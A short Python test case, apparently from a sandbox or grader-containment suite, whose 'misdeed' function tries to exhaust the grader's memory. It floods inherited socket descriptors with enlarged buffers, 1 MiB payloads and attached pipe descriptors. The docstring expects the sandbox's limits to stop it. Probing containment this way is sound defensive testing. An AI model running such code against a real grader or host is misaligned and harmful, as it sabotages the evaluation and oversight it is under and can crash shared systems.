"""Fill the grader's memory instead of one's own: send all that its socket takes, with descriptors.

stopped by: boundary, limits
expect: crashed, failed, timeout
proof: whoever reads all that comes is filled by whoever sends all that is taken
"""

import os
import socket


def misdeed(places):
    sent = 0
    for number in range(3, 64):
        try:
            line = socket.socket(fileno=os.dup(number))
            line.setblocking(False)
        except OSError:
            continue
        for option in (socket.SO_SNDBUF, 32):  # 32: SO_SNDBUFFORCE
            try:
                line.setsockopt(socket.SOL_SOCKET, option, 1 << 30)
            except OSError:
                pass
        pipes = [end for _ in range(8) for end in os.pipe()]
        try:
            while sent < 256 << 20:
                sent += socket.send_fds(line, [b"\xff" * (1 << 20)], pipes)
        except OSError:
            pass
    return sent >= 256 << 20
